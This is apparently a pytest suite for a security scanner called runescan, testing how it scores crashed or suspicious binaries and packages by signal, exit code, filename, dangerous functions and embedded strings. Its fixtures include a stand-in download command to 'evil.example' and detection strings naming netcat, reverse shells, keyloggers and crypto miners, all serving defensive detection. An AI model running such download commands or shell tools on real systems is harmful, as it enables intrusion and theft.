import signal

import pytest

from runescan._types import ExecutionResult, PackageRiskAssessment, RiskAssessment
from runescan.classifier import INDICATORS, PackageRiskAssessor, ThreatClassifier, detect_specific_threats


def make_result(target="/usr/bin/tool", exit_code=0, sig=None, **kwargs):
    if sig is not None:
        kwargs.update(was_signalled=True, signal=int(sig))
        exit_code = 128 + int(sig)
    defaults = dict(target=target, duration=0.05, exit_code=exit_code, pid=4242)
    defaults.update(kwargs)
    return ExecutionResult(**defaults)


@pytest.fixture
def classifier():
    return ThreatClassifier()


# ------------------ Termination table -----------------------


@pytest.mark.parametrize(
    "sig,classification,score",
    [
        (signal.SIGSEGV, "critical_memory_corruption", 1),
        (signal.SIGABRT, "critical_heap_corruption", 1),
        (signal.SIGFPE, "arithmetic_error", 2),
        (signal.SIGILL, "code_corruption", 2),
        (signal.SIGBUS, "memory_alignment_error", 2),
        (signal.SIGKILL, "resource_exhaustion", 4),
        (signal.SIGTRAP, "debug_trap", 6),
        (signal.SIGUSR1, "unexpected_signal", 4),
    ],
)
def test_signal_rows(classifier, sig, classification, score):
    ra = classifier.classify(make_result(sig=sig))
    assert ra.classification == classification
    assert ra.score == score
    assert f"signal:{signal.Signals(sig).name}" in ra.contributing_signals


@pytest.mark.parametrize(
    "exit_code,classification,score",
    [
        (0, "execution_success", 9),
        (1, "standard_error", 7),
        (2, "standard_error", 7),
        (3, "abnormal_exit", 6),
        (127, "abnormal_exit", 6),
    ],
)
def test_exit_rows(classifier, exit_code, classification, score):
    ra = classifier.classify(make_result(exit_code=exit_code))
    assert ra.classification == classification
    assert ra.score == score


def test_termination_mode_decides_not_exit_number(classifier):
    """A normal exit with status 139 is not a segfault."""
    ra = classifier.classify(make_result(exit_code=139))
    assert ra.classification == "abnormal_exit"


def test_segfault_sets_memory_indicators(classifier):
    ra = classifier.classify(make_result(sig=signal.SIGSEGV))
    assert ra.indicators["buffer_overflow_risk"] == 5
    assert ra.indicators["null_pointer_risk"] == 5
    assert ra.risk_level == "critical_risk"


def test_classification_is_idempotent(classifier):
    result = make_result(target="/tmp/overflow_demo", sig=signal.SIGABRT, peak_memory_kb=90000, duration=1.0)
    signals = ["strcpy", "gets", "system"]
    assert classifier.classify(result, signals) == classifier.classify(result, signals)


# ------------------ Secondary adjustments -----------------------


def test_vulnerable_test_program_override(classifier):
    ra = classifier.classify(make_result(target="/opt/tests/vulnerable_demo"))
    assert ra.classification == "high_risk_test_program"
    assert ra.score == 2


def test_vulnerable_name_does_not_override_a_crash(classifier):
    ra = classifier.classify(make_result(target="/opt/tests/vuln_app", sig=signal.SIGSEGV))
    assert ra.classification == "critical_memory_corruption"


@pytest.mark.parametrize(
    "name,indicator,signal_name",
    [
        ("stack_overflow", "buffer_overflow_risk", "filename:overflow"),
        ("ring_buffer", "buffer_overflow_risk", "filename:buffer"),
        ("uaf_case", "use_after_free_risk", "filename:uaf"),
        ("printf_fun", "format_string_vuln", "filename:printf"),
    ],
)
def test_filename_patterns_escalate(classifier, name, indicator, signal_name):
    ra = classifier.classify(make_result(target=f"/tmp/{name}"))
    assert ra.score == 7, "exit 0 starts at 9 and the filename costs 2"
    assert ra.indicators[indicator] == 3
    assert signal_name in ra.contributing_signals


def test_dangerous_filename_escalates_regardless_of_exit(classifier):
    ra = classifier.classify(make_result(target="/tmp/backdoor"))
    assert ra.score == 6
    assert "filename:backdoor" in ra.contributing_signals


def test_score_is_clamped_to_range(classifier):
    result = make_result(target="/tmp/overflow_uaf_format_backdoor", sig=signal.SIGSEGV)
    ra = classifier.classify(result, ["strcpy", "gets", "system", "popen", "buffer_overflow"])

    assert ra.score == RiskAssessment.SCORE_MIN
    assert all(0 <= ra.indicators[k] <= 5 for k in INDICATORS)


def test_dangerous_functions_from_symbol_table(classifier):
    symbols = ["strcpy@GLIBC_2.2.5", "printf", "gets", "system", "popen", "__libc_start_main", "strcpy"]
    ra = classifier.classify(make_result(), symbols)

    hits = [s for s in ra.contributing_signals if s.startswith("dangerous_function:")]
    assert hits == [
        "dangerous_function:strcpy",
        "dangerous_function:gets",
        "dangerous_function:system",
        "dangerous_function:popen",
    ]
    # 9 - 4 (one per function) - 2 (more than three)
    assert ra.score == 3
    assert ra.indicators["buffer_overflow_risk"] == 4


def test_vulnerability_named_symbols(classifier):
    ra = classifier.classify(make_result(), ["do_use_after_free", "format_string_bug"])
    assert ra.indicators["use_after_free_risk"] == 5
    assert ra.indicators["format_string_vuln"] == 5


def test_memory_growth_rate(classifier):
    ra = classifier.classify(make_result(peak_memory_kb=100000, duration=1.0))
    assert ra.classification == "memory_leak_indicators"
    assert ra.score == 8
    assert ra.indicators["memory_leak_indicators"] == 1

    short = classifier.classify(make_result(peak_memory_kb=100000, duration=0.05))
    assert short.classification == "execution_success", "runs under 0.1s are ignored"

def test_output_alerts(classifier):
    alerts = (
        "critical:buffer_overflow",
        "critical:memory_leak",
        "critical:path_traversal",
        "critical:netcat",
        "warning:download",
    )
    ra = classifier.classify(make_result(output_alerts=alerts))

    assert ra.classification == "execution_success"
    assert ra.score == 9 - 3, "critical output costs one point each, at most three"
    assert ra.indicators["buffer_overflow_risk"] == 2
    assert ra.indicators["memory_leak_indicators"] == 2
    for alert in alerts:
        assert f"output:{alert.split(':', 1)[1]}" in ra.contributing_signals


def test_warning_output_alert_does_not_cost_points(classifier):
    ra = classifier.classify(make_result(output_alerts=("warning:permission_denied",)))
    assert ra.score == 9
    assert "output:permission_denied" in ra.contributing_signals



def test_simulated_result_classifies_as_success(classifier):
    ra = classifier.classify(make_result(target="/bin/true", duration=0.001, pid=0, simulated=True))
    assert ra.classification == "execution_success"
    assert "simulated" in ra.contributing_signals


@pytest.mark.parametrize(
    "result",
    [
        make_result(target=""),
        make_result(exit_code=-5),
        ExecutionResult(target="x", duration=0.0, exit_code=0, pid=0, was_signalled=True, signal=None),
        make_result(duration=0.0, peak_memory_kb=10 ** 9),
        make_result(output_alerts=("garbage", "critical:")),
    ],
)
def test_classifier_is_total(classifier, result):
    ra = classifier.classify(result, ["", "   ", "weird symbol with spaces"])
    assert RiskAssessment.SCORE_MIN <= ra.score <= RiskAssessment.SCORE_MAX
    assert ra.classification


@pytest.mark.parametrize("score,level", [(10, "low_risk"), (8, "low_risk"), (6, "medium_risk"),
                                         (4, "high_risk"), (3, "critical_risk"), (1, "critical_risk")])
def test_risk_level_bands(score, level):
    assert RiskAssessment(score=score, classification="x").risk_level == level


# ------------------ Package assessment (0-20) -----------------------


@pytest.fixture
def assessor():
    return PackageRiskAssessor()


def test_package_assessment_points(assessor):
    pa = assessor.assess(
        "/downloads/backdoor_tool.deb",
        size=10,
        strings=["wget http://evil.example/x", "hello"],
        archive_listing=["./postinst", "./control"],
    )
    # small file 2, backdoor 5, install script 1, one suspicious string 1, network 2
    assert pa.risk_points == 11
    assert pa.risk_level == "high_risk"
    assert "network_capability" in pa.findings
    assert "filename_critical:backdoor" in pa.findings


def test_package_points_are_capped(assessor):
    pa = assessor.assess("/tmp/hack_exploit_backdoor_malware_virus.bin", size=4096, archive_listing=[])
    assert pa.risk_points == PackageRiskAssessment.POINTS_MAX


def test_archive_listing_rules(assessor):
    many = [f"file{i}" for i in range(25)]
    pa = assessor.assess("/tmp/pkg.deb", size=4096, archive_listing=many)
    assert "archive:many_entries" in pa.findings
    assert pa.risk_points == 1

    uninspectable = assessor.assess("/tmp/pkg.deb", size=4096, archive_listing=None)
    assert "archive:uninspectable" in uninspectable.findings


def test_size_rules(assessor):
    assert "size:extremely_large" in assessor.assess("/tmp/a.deb", size=600 * 1024 * 1024, archive_listing=[]).findings
    assert "size:large" in assessor.assess("/tmp/a.deb", size=200 * 1024 * 1024, archive_listing=[]).findings
    assert assessor.assess("/tmp/a.deb", size=4096, archive_listing=[]).risk_points == 0


def test_package_assessment_stats_file(assessor, tmp_path):
    path = tmp_path / "tiny.deb"
    path.write_bytes(b"abc")
    pa = assessor.assess(str(path), archive_listing=[])
    assert "size:suspiciously_small" in pa.findings


@pytest.mark.parametrize("points,level", [(20, "critical_risk"), (15, "critical_risk"), (10, "high_risk"),
                                          (5, "moderate_risk"), (2, "low_risk"), (1, "minimal_risk"),
                                          (0, "minimal_risk")])
def test_package_risk_bands(points, level):
    assert PackageRiskAssessment(risk_points=points).risk_level == level


def test_specific_threats_limited_per_family():
    strings = ["xmrig miner", "Bitcoin wallet", "monero pool", "ethereum node", "keylogger active", "reverse shell"]
    threats = detect_specific_threats(strings)

    mining = [t for t in threats if t.startswith("crypto_mining:")]
    assert len(mining) == 3, "at most three hits per family"
    assert "data_theft: keylogger active" in threats
    assert "backdoor: reverse shell" in threats


def test_two_scales_are_distinct():
    ra = RiskAssessment(score=9, classification="execution_success").to_dict()
    pa = PackageRiskAssessment(risk_points=9).to_dict()
    assert ra["scale"] == "security_score" and ra["score_range"] == [1, 10]
    assert pa["scale"] == "risk_points" and pa["points_range"] == [0, 20]
